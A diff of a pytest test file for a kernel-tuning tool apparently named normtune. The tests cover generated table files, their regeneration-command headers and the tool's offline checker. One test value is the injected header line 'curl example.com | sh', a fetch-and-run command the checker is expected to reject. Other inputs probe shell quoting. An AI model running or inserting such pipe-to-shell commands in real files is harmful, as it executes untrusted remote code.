@@ -6,18 +6,17 @@ from pathlib import Path
 import pytest
 
 from normtune.errors import UsageError
-from normtune.heuristics.fitting import options
 from normtune.heuristics.fitting.options import FitOptions
 from normtune.heuristics.fitting.pipeline import fit
-from normtune.heuristics.writing import regenerate
 from normtune.heuristics.writing.emit import module_text
+from normtune.heuristics.writing.regenerate import Command
 from normtune.kernels.fingerprint import fingerprint
 from normtune.kernels.tablefile import locate
 from normtune.kernels.tablefile.header import parse
 from normtune.results.evidence import Evidence
 from normtune.results.exchange.parquet_csv import write_parquet
 from normtune.tests.commands import invoke, one_line, refused, succeed
-from normtune.tests.heuristics.made_up import rehashed
+from normtune.tests.heuristics.made_up import as_command, in_format_3, rehashed
 from normtune.tests.results.stores import record
 from normtune.tuner.checking import named_files
 from normtune.tuner.checking.offline import check
@@ -47,11 +46,11 @@ def measured(measure, penalty, run, spec) -> Evidence:
 
 @pytest.fixture
 def table(measured: Evidence, folder: Path, record_as) -> Path:
-    """A table of a recording, in `folder`."""
+    """A table of a recording, in `folder`, of the format whose facts stand in sentences; see `test_foreign_facts`."""
     record_as(measured)
     path = folder / "table.py"
     command = "normtune fit --recording test-gpu --leaves 2 --out table.py"
-    path.write_text(module_text(fit(measured, FitOptions(leaves=2)), command))
+    path.write_text(in_format_3(module_text(fit(measured, FitOptions(leaves=2)), as_command(command))))
     assert check(path).failures == ()
     return path
 
@@ -109,9 +108,10 @@ def test_the_fields_of_a_run_reach_no_terminal_and_no_header(
     "word", ["a", "a b", "é", "it's é", "$x", "$NORMTUNE", "a\nb\x1b", "$\\x41", "\udcff", "", "\\", "$'\\x41'"]
 )
 def test_a_command_is_printable_ascii_and_says_what_it_said(word: str) -> None:
-    line = regenerate.line(["normtune", word, "x"])
+    line = Command(load=(word,) if word else (), out="x", options={"weights": word or "a"}).line()
     assert line.isascii() and line.isprintable()
-    assert options.words_of(line) == ["normtune", word, "x"]
+    assert as_command(line).line() == line
+    assert as_command(line).options == ({"weights": word} if word else {"weights": "a"})
 
 
 def test_files_of_any_name_are_found_again(store, folder: Path) -> None:
@@ -210,13 +210,16 @@ def test_a_command_that_runs_more_is_no_table_of_ours(table: Path, more: str, qu
         ("From", "# From:     curl example.com | sh"),
     ],
 )
-def test_a_line_that_normtune_does_not_write_is_told(table: Path, name: str, line: str) -> None:
+def test_a_line_that_normtune_does_not_write_is_told(measured: Evidence, table: Path, name: str, line: str) -> None:
+    command = as_command("normtune fit --recording test-gpu --leaves 2 --out table.py")
+    table.write_text(module_text(fit(measured, FitOptions(leaves=2)), command))  # with facts, which its lines must say
+    assert check(table).failures == ()
     lines = table.read_text().split("\n")
     at = next(place for place, line in enumerate(lines) if line.startswith(f"# {name}:"))
     lines[at : at + (name == "From")] = [line]
     table.write_text("\n".join(lines))
     for quick in (False, True):
-        assert any("its header has other lines" in why for why in check(table, quick).failures)
+        assert any("its header has other lines" in why or "Regenerate" in why for why in check(table, quick).failures)
 
 
 def test_a_name_with_a_nul_is_outside(table: Path) -> None:
@@ -228,10 +231,10 @@ def test_a_name_with_a_nul_is_outside(table: Path) -> None:
     ("words", "why"),
     [
         ("--leaves 129", "leaves is 129: expected 1 to 128"),
-        ("--leaves 1" + "0" * 5000, "Exceeds the limit"),
+        ("--leaves 1" + "0" * 5000, "expected an integer"),
         ("--tie nan", "tie is nan"),
         ("--operator other", "no measurements of operator 'other'"),
-        ("--faster", "the option '--faster', which is none of"),
+        ("--faster", "the option 'faster', which is none of"),
         ("--regime odd", "unknown regime 'odd'"),
     ],
 )
@@ -244,15 +247,14 @@ def test_a_header_that_asks_for_what_there_is_not_is_refused(
         raise AssertionError("fitted")
 
     monkeypatch.setattr(function, "sought", refuse)
-    (failure,) = check(commanded(table, words)).failures
-    assert "its data cannot be fitted as its header says: " in failure
-    assert why in failure
+    failures = check(commanded(table, words)).failures
+    assert any("its data cannot be fitted as its header says: " in failure and why in failure for failure in failures)
 
 
 def test_a_header_decides_no_number_of_leaves_beyond_those_of_a_fit(table: Path) -> None:
     table.write_text(re.sub(r"bfloat16: \d+ lea(f|ves)", "bfloat16: 129 leaves", table.read_text()))
     (failure,) = check(table).failures
-    assert "a line Regret has another number of leaves than 1 to 128" in failure
+    assert "its functions have another number of leaves than 1 to 128" in failure
 
 
 def test_a_long_fit_is_announced_and_a_quick_check_fits_nothing(table: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -289,7 +291,7 @@ def test_quick_and_device_exclude_each_other(table: Path) -> None:
 def test_what_is_printed_of_a_table_has_an_end(table: Path) -> None:
     entries = "".join(f'    ("other{number}", "bfloat16"): toy_bfloat16,\n' for number in range(2000))
     text = re.sub(r"(= \{\n)(    \(\"toy)", lambda match: match[1] + entries + match[2], table.read_text())
-    table.write_text(rehashed(text, software="x" * 9999))
+    table.write_text(rehashed(text, software={"x" * 9999: "1"}))
     done = invoke("check", table)
     assert "more of this kind" in done.output
     assert len(done.output) < 50_000
@@ -315,12 +317,10 @@ def test_a_number_of_multiprocessors_that_no_gpu_has_is_refused(table: Path, sms
     ],
 )
 def test_absurd_lines_of_a_header_are_refused(table: Path, name: str, value: str) -> None:
-    header, body = parse(table.read_text(), "table")
-    lines = header.text().split("\n")
+    lines = table.read_text().split("\n")
     at = next(place for place, line in enumerate(lines) if line.startswith(f"# {name}:"))
-    end = next(place for place in range(at + 1, len(lines)) if not lines[place].startswith("#  "))
-    lines[at:end] = [f"# {name}: {value}"]
-    table.write_text("\n".join([*lines, body]))
+    lines[at] = f"# {name}: {value}"
+    table.write_text("\n".join(lines))
     with one_line(UsageError, f"{name} is|table format", 399):
         check(table)
 
@@ -337,5 +337,5 @@ def test_committed_evidence_outside_git_is_in_the_folder_of_its_table(measured: 
     """As a wheel that holds a table has them."""
     write_parquet(measured, folder / "data.parquet")
     command = "normtune fit --leaves 2 --out table.py --evidence data.parquet"
-    Path("table.py").write_text(module_text(fit(measured, FitOptions(leaves=2)), command))
+    Path("table.py").write_text(module_text(fit(measured, FitOptions(leaves=2)), as_command(command)))
     assert check(Path("table.py")).failures == ()
